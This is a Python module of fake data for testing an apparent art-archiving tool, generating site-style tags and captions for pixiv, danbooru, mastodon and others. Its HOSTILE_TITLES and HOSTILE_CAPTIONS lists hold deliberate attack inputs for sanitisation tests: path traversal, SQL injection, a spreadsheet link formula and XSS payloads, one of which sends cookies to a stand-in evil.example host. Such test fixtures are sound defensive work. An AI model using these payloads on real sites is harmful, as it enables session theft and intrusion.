"""What the works of the world are called and what is said of them."""

from collections.abc import Mapping
from dataclasses import dataclass

from artkeep.fakes import drawings


@dataclass(frozen=True, slots=True)
class Tag:
    """A tag as a site has it. `kind`: general, artist, character, copyright or meta."""

    name: str
    translated: str | None = None
    kind: str = "general"


# style of a drawing → what it is tagged with: Japanese, English
SUBJECTS: Mapping[str, tuple[tuple[str, str], ...]] = {
    "flow field": (("風", "wind"), ("抽象画", "abstract")),
    "landscape": (("風景", "landscape"), ("山", "mountain")),
    "stained glass": (("ステンドグラス", "stained glass"), ("光", "light")),
    "plants": (("植物", "plants"), ("花", "flower")),
    "fractal": (("フラクタル", "fractal"), ("数学", "mathematics")),
    "tiling": (("模様", "pattern"), ("幾何学", "geometry")),
    "city": (("街", "city"), ("夜景", "night view")),
    "marbled paper": (("マーブリング", "marbling"), ("紙", "paper")),
    "shapes": (("図形", "shapes"), ("抽象画", "abstract")),
    "space": (("宇宙", "space"), ("星空", "starry sky")),
    "pond": (("池", "pond"), ("鯉", "koi")),
    "waves": (("海", "sea"), ("波", "waves")),
}
ORIGINAL = ("オリジナル", "original")
FOX_TAGS = (("狐", "fox"), ("雪", "snow"), ("冬", "winter"))
AI_TAG = ("AIイラスト", "AI-generated")

HOSTILE_TITLES = (
    'A/B: "C" <D>|E?*.',
    "../../../../etc/passwd",
    "<script>alert('title')</script>",
    "CON",
    "fox\u202egnp.exe",
    "狐🦊❄️ " + "very " * 60 + "long",
    '=HYPERLINK("http://evil.example";"click")',
    "'; DROP TABLE post; --",
    " . ",
    "%00%2e%2e%2f\ttab\nnew line",
)
HOSTILE_CAPTIONS = (
    "<script>fetch('//evil.example/'+document.cookie)</script>hello",
    '<img src=x onerror="alert(1)"><b>bold <i>both</b> italic</i>',
    '<a href="javascript:alert(2)">a link</a> <a href="//evil.example">another</a>',
    '<div style="position:fixed;inset:0;background:red">over everything</div><!-- <b>',
    "<svg/onload=alert(3)><table><tr><td>unclosed &lt;b&gt; &amp;amp; &#x202e;back",
)


def title_of(number: int) -> str:
    """Return the title of a picture."""
    return drawings.title_of(number)


def subjects(number: int) -> tuple[tuple[str, str], ...]:
    """Return what a picture shows: Japanese, English."""
    return (*SUBJECTS[drawings.style_of(number)], ORIGINAL)


def tags_for(
    site: str, shown: tuple[tuple[str, str], ...], artist: Mapping[str, str], rating: str
) -> tuple[Tag, ...]:
    """Write tags as a site does. `artist` is the artist's tag by site, where there is one."""
    if site == "pixiv":
        return tuple(Tag(japanese, english) for japanese, english in shown)
    if site == "danbooru":
        plain = [Tag(english.replace(" ", "_").lower()) for _, english in shown]
        own = [Tag(artist["danbooru"], kind="artist")] if "danbooru" in artist else []
        return (*plain, *own, Tag("original", kind="copyright"), Tag("highres", kind="meta"))
    if site == "philomena":
        own = [Tag(artist["philomena"], kind="artist")] if "philomena" in artist else []
        return (Tag(_SAFETY[rating]), *own, *(Tag(english.lower()) for _, english in shown))
    if site == "imagefap":
        return tuple(Tag(english) for _, english in shown[:1])
    return tuple(Tag(english.replace(" ", "").replace("-", "")) for _, english in shown)


_SAFETY = {
    "general": "safe",
    "sensitive": "suggestive",
    "questionable": "questionable",
    "explicit": "explicit",
}


def caption_html(site: str, title: str, elsewhere: str, number: int) -> str:
    """Return what the artist says, with the markup that the site has in captions."""
    lines = (
        f"{title}. Ink &amp; gouache, {10 + number % 40} hours.",
        f'Also here: <a href="{elsewhere}" target="_blank">{elsewhere}</a>',
        "ありがとうございます。<strong>Thank you</strong> for looking.",
    )
    if site == "mastodon":
        return "".join(f"<p>{line}</p>" for line in lines)
    return "<br />".join(lines)


def words(title: str, elsewhere: str, tags: tuple[Tag, ...]) -> str:
    """Return a short post: plain text with a link and hashtags."""
    marked = " ".join(f"#{tag.name}" for tag in tags)
    return f"{title}\n{elsewhere}\n{marked}".strip()
